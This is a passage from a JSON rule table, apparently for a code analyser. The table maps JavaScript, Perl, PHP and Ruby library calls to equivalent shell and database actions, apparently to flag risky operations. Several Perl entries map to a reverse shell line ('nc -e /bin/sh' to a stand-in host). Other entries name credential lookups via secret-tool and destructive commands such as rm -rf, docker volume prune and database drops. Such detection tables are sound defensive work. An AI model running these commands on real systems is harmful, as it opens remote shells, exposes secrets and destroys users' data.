l=","Buffer.alloc":"value $:usual=","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0","\
ps-list":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup x\
","keytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:pat\
h","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"ma\
de store $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service","s\
sh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomorph\
ic-git.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.Re\
set.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0","\
Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm \
$0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run r\
m $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0","\
fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s 0\
 $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-match\
es $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":"r\
emove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git":"\
made git $0:baseDir","simple-git.default":"made git $0:baseDir","tar.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bun.SQL":"name bun.sql","bett\
er-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Database":"made database $0","fs\
.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $\
1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls\
-back folder $0 dirent | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"glob\
s $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd"\
,"fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pair\
s $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"m\
ade ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run setgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse"\
:"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"environment $0","path.join":"join-parts","path.posix.join":"join-parts\
","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.request":"open-request $:method=GET $0:url:host\
name:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios":"open-request $:method=GET $0:url:\
hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","ky":"open-request $:method=GET $0:url:hostname:\
host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","request":"open-request $:method=GET $0:url:hostna\
me:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.request":"open-request $:method=GET $\
0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.get":"calls-back request G\
ET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","axios.get":"request GET $0:url:hos\
tname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:json","ky.get":"request GET $0:url:hostname:host $:body $:data $:js\
on","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"request GET $0:url:hostname:host $:body $:data $:json","$.get":"reque\
st GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","got.post":"open-request POST $0\
:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","superagent.post":"open-request POST $0:u\
rl:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","$.post":"open-request POST $0:url:host\
name:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","got.put":"open-request PUT $0:url:hostname:host \
$:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","superagent.put":"open-request PUT $0:url:hostname:host $:body\
 $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:j\
son $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:jso\
n $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagent.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:j\
son $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json\
 $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:js\
on $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","superagent.delete":"open-request DELETE $0:url:hostname:host $:body $:dat\
a $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:da\
ta $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnection":"calls-back connect $1:host=localhost $0:port","tls.connect":"\
calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db\
.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-sign:connects made mock | made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-s\
dk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","s\
inon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake"\
:"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.PostgreSqlContainer":"made container","pg.Pool":"if-gets:container i\
f-no-sign:reads-environment made database :memory:","pg.Client":"if-gets:container if-no-sign:reads-environment made database :memory:","nock.disableNetConnect"\
:"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0\
","WebSocket":"made connection $0","ws":"made connection $0","ws.WebSocket":"made connection $0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pai\
rs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true eval $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls\
-back folder $0 dirent","Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.Service":"made service","node-mac.Service":"made service","mem\
fs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettled":"value $0","util.promisi\
fy":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"folder $0 below","Reflect":"value","Reflect.get":"attribute $0 $\
1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0 append","send":"send $self $0 append","install":"if-made:service run systemctl enable --now\
 x","end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=localhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $\
0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","finally":"then","method":"if-ow\
ner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:container value $self","mockImplementation":"answer-spy $0","callsF\
ake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 returned","mockRejectedValue":"answer-spy $0 returned","retur\
ns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned","listen":"if-made:msw if-option:onUnhandledRequest=error if-\
no-sign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"value $self","text":"value $self","json":"value $self","unref":\
"value $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql delete-all rows | if-database if-arg:name if-no-sign:limits run\
 sql delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where={} run sql delete-all rows","getVolume":"made docker-volume",\
"scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-made:vm-script eval $origin","runInNewContext":"if-made:vm-sc\
ript eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $all","unshift":"if-list append $self $all","splice":"if-list ap\
pend $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","del\
eteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^true$ run git branch -D","sendMail":"sends-files","sendCommand"\
:"if-stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-stored program redis-cli $all","scanStream":"if-stored entries key\
s","scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-made:rows run sql delete-all\
 rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run sql update-all rows","reset":"if-made:git if-says:hard$|Hard$|\
HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clean -fd","rollback":"if-name:\
migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0","remove":"if-made:docker-v\
olume run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"run docker volume prune -af","drop":"if-database run sql drop\
-collection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sq\
l:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql\
 $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery":"sql $0:query:sql:text","s\
ync":"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db","getDB":"name db","getCollection":"name db.collection","exp\
lain":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql sh\
utdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql d\
rop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","dropUser":"if-database run sql drop-\
user $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database run sql shutdown $owner","truncate":"if-made:rows run sql delet\
e-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"q","heredoc":"perl","pat\
terns":true,"lines":"none"},"program":"perl","blocks":"braces","member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_ke\
ywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARGV\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"sdks":[\
],"texts":{"$0":"./program.pl","STDIN":"\\ufffc"},"aliases":{},"rewrites":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\
\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take \
$0","print":"print text","say":"print line","readline":"input","system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if\
-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command\
 $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.exampl\
e.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bi\
n/sh shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System\
.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all"\
,"rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","\
move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"\
run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","\
File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"names .","LoadFile":"read $0","YAML.XS.LoadFile":"read $0","YAML.LoadFile":"r\
ead $0","read_file":"read $0","File.Slurp.read_file":"read $0","slurp":"read $0","retrieve":"read $0","Storable.retrieve":"read $0","recv":"received","LWP.Simpl\
e.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.S\
SH.Perl.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect"\
:"made mongo","MongoDB.MongoClient.new":"made mongo","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.path":"join $all"},"methods"\
:{"do":"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","capture2":"if-made:ssh command $\
all","pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:ssh value $self","delete":"\
if-made:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form":"if-made:rest request-ov\
er POST $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo value $self","ns":"if-mad\
e:mongo value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:\
keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text write $self $0","spew_utf8"\
:"if-text write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self","children":"if-text folde\
r $self","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":["//","#"],"block_comment":\
["/*","*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"php","patterns":false,"lines":"none"},"progr\
am":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_keywords":["function"],"inputs":{"\
$argv":"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","$_COOKIE":"peer"},"sdks":["aws.","google.cloud.","str\
ipe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbclient","route53client","sqscl\
ient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformationclient","eksclient","ecsclient","ecrclient","snsclient","ssmclient","elastica\
checlient","efsclient","redshiftclient","glacierclient","backupclient","organizationsclient","cloudfrontclient","cloudwatchlogsclient","cognitoidentityproviderc\
lient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailclient","neptuneclient","docdbclient","apigatewayclient","acmclient","storageclie\
nt","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".",\
"__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w\
+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","memcache":"made memcached","eval":"eval $0","assert":"if-arg:text eval $0","create\
_function":"eval $1","include":"include $0","require":"include $0","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0"\
,"shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","\
rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","file_get_content\
s":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file":"read $0","readfile":"read $0","show_source":"read $0","highlight_f\
ile":"read $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0","yaml_parse_file":"read $0","simplexml_load_file":"read $0","socket_\
read":"received","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","socket_accept":"made peer","file_put_contents":"write $0 $1 $2","fopen"\
:"open $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-\
sign:repeats run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec":"request GET $0\
","curl_setopt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 |\
 if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"d\
irname $0","getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received | if-gets:connection received | input","fread":"if-gets:peer received\
 | if-gets:connection received | input","stream_get_contents":"if-gets:peer received | if-gets:connection received | input","readline":"if-gets:peer received | \
if-gets:connection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recursivedirectoryiterator":"folder $0","directoryiterator"\
:"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"value $0","escapeshellcmd":"value $0","array_slice":"valu\
e $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1","mysqli_multi_query":"sql $1","mysqli_real_query":"\
sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_send_query":"sql $1 | sql $0","db.delete":"sql $0","d\
b.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"run sql drop-table $0","schema.dropifexists":"run sql \
drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_path":"join . $0","app_path":"join app $0","database_pa\
th":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"made filesystem","file.deletedirectory":"run rm -rf $0\
","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"if-sign:http-client made rest $all","httpclient.creat\
e":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","process.fromshellcommandline":"if-arg:text shell $0","pr\
ocess.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http.withheaders":"made rest","http.withbasicauth":"made \
rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.post":"request POST $0 $1","ssh2":"made ssh","ssh2_exe\
c":"shell $1"},"methods":{"query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"sql $0","executeupdate":"sql $0","createquery":"sql $0\
","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"made whole","getdroptablesql":"made whole","getdropsc\
hemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema":"if-kept run sql drop-schema $owner","createquerybui\
lder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest request-over DELETE $0","remove":"if-made:filesystem run r\
m -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $0 $1:json:body","get":"if-made:rest request-over GET \
$0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabase":"if-made:mongo value $self","getcollection":"if-ma\
de:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys run sql flush FLUSHDB","unl\
ink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php artisan migrate:fresh","flush":"if-made:memcached ru\
n sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","fwrite":"send $self $0","getpathname":"value $self","g\
etrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@",\
"interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby","patterns":true,"lines":"statements"},"program":"ruby","blocks\
":"end","member_operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","E\
NV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Octokit.","Git\
lab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"F\
ileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUti\
ls.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self\
)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print line","print":"print text","gets":"input","readlines":"input","Rails.application":"name\
 rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-databas\
e db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","ra\
ils_application.credentials":"secret","send":"invoke $0 $1..","public_send":"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]\
":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made se\
quel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","IO.p\
open":"calls-back command $all","Open3.popen2":"calls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"calls-back command $all","sys\
tem":"command $all","exec":"command $all","spawn":"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all\
","PTY.spawn":"command $all","Process.Sys.setuid":"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege":"run setuid $0","Process.\
UID.grant_privilege":"run setuid $0","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0"\
,"binding.eval":"eval $0","Sidekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.ne\
w":"made sidekiq","Sidekiq.Queue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made\
 mock","MockRedis.new":"made mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entri\
es model","Mongo.Client.new":"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Cl\
ients.with_name":"made mongo","Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run \
sql drop-database mongoid","Mongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File\
.open":"calls-back open $0 $1","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","F\
araday.get":"request GET $0","RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTT\
P.post":"request POST $0 $1 $:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:js\
on $:form","Faraday.post":"request POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 \
$:body $:json $:form","Excon.post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"reques\
t DELETE $0","Faraday.delete":"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","\
Typhoeus.delete":"request DELETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse"\
:"value $0","File.expand_path":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","\
File.foreach":"read $0","File.binread":"read $0","IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.safe_load_file":"read $0","YAM\
L.unsafe_load_file":"read $0","Psych.load_file":"read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CSV.table":"read $0","Dotenv.\
parse":"read $0","IniFile.load":"read $0","TomlRB.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":\
"run rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","\
Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -r\
f $all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"ru\
n mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run\
